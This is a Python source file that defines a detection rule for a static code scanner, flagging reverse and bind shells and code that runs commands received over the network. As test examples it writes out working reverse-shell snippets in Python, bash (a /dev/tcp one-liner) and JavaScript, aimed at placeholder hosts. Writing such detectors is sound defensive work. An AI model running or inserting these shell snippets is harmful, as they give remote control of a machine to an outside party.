"""MF-PROC-002."""

from __future__ import annotations

from mayfly.scan.facts import UNKNOWN, CallUse, ProcUse
from mayfly.scan.rule import Hit, Rule, Scene

__all__ = ["RULE"]


def _check(fact: CallUse | ProcUse, _scene: Scene) -> Hit | None:
    if isinstance(fact, CallUse):
        return Hit("ties a shell to a network connection")
    first = fact.argv[0] if fact.argv else UNKNOWN
    if fact.shell and "net" in fact.text.taints and not fact.text.consts:
        return Hit("runs commands that come over the network")
    if "net" in first.taints and not first.consts:
        return Hit("runs commands that come over the network")
    return None


RULE = Rule(
    id="MF-PROC-002",
    title="Gives somebody on the network a shell",
    rationale=(
        "Commands that come over a connection are run, or a shell is tied to a connection: a reverse or bind shell."
    ),
    severity="critical",
    cwe="CWE-78",
    confidence="high",
    capabilities=("net", "proc"),
    facts=(CallUse, ProcUse),
    only={CallUse: ("network-shell",)},
    check=_check,
    examples={
        "python": (
            "import socket, subprocess\n"
            "s = socket.socket()\n"
            "s.connect(('127.0.0.1', 9))\n"
            "while True:\n"
            "    c = s.recv(99)\n"
            "    if not c: break\n"
            "    s.send(subprocess.check_output(c, shell=True))"
        ),
        "bash": "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
        "javascript": (
            "const n = require('net').connect(9, 'h.invalid');\nn.on('data', d => require('child_process').exec(d))"
        ),
    },
    near_misses={
        "python": "import subprocess\nprint(subprocess.check_output(['uname', '-a']))",
        "bash": "uname -a",
        "javascript": "require('child_process').execSync('uname -a')",
    },
    languages=("python", "bash", "javascript"),
)
